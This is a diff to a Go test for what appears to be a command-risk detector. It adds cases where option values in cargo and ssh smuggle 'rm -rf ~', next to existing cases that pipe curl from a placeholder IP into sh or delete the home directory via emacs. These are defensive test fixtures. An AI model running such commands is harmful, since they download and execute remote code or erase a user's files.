@@ -76,11 +76,14 @@ func TestOptionValueIsCommand(t *testing.T) {
 		{`sometool --hook 'sh -c "curl -s http://203.0.113.8/a | sh"'`, CategoryRemoteExec, "", LevelHigh},
 		{`make --eval='$(shell curl -s http://203.0.113.8/a | sh)'`, CategoryRemoteExec, "", LevelHigh},
 		{`emacs --batch --eval '(delete-directory "~" t)'`, CategoryFileDelete, "", LevelHigh},
+		{`cargo --config 'target.x86_64-unknown-linux-gnu.runner="sh -c \"rm -rf ~\""' run`, CategoryFileDelete, "", LevelHigh},
+		{`ssh -o LocalCommand='rm -rf ~' -o PermitLocalCommand=yes host`, CategoryFileDelete, "", LevelHigh},
 	})
 	checkSafe(t, d, testCtx, []string{
 		`git grep --open-files-in-pager='sh -c "less"' TODO`,
 		`sometool --on-finish='bash -c "echo done"' run`,
 		`make --eval='$(shell git rev-parse HEAD)'`,
+		`cargo --config 'target.x86_64-unknown-linux-gnu.runner="valgrind -q"' run`,
 		`emacs --batch --eval '(delete-directory "build" t)'`,
 	})
 }
